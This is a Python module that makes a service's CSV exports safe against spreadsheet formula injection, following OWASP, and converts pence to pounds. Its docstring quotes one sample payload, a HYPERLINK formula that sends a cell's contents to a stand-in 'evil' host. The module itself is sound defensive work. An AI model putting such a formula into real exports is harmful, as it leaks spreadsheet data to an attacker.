"""Every CSV the service writes goes through here: rows to text, safe to open in a spreadsheet.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
after a leading tab or carriage return) as a formula, so a provider's trading name
``=HYPERLINK("http://evil/?"&A1,"Open")`` would run on a council officer's desk when
they open the register. OWASP's rule (CSV Injection cheat sheet): prefix such a cell
with a single quote so it is shown as text. Plain numbers (``-12.50``, a negative
amount) cannot be formulas and are left alone, so money columns stay numeric.
No Flask here: the HTTP response is ``agency.web.csv_response`` (web side).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")


def safe_cell(value: object) -> object:
    """``value``, quoted with a leading ``'`` when a spreadsheet would take it as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.match(value)
    ):
        return "'" + value
    return value


def csv_lines(rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n") -> Iterator[str]:
    """Each row as one line of CSV (for streaming), every cell passed through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def csv_text(rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n") -> str:
    """The whole CSV document as one string (for small files built in memory)."""
    return "".join(csv_lines(rows, lineterminator=lineterminator))


def pounds(pence: int) -> str:
    """Integer pence as pounds with two decimals, the way CSV readers expect (``-12.05``)."""
    sign = "-" if pence < 0 else ""
    return f"{sign}{abs(pence) // 100}.{abs(pence) % 100:02d}"
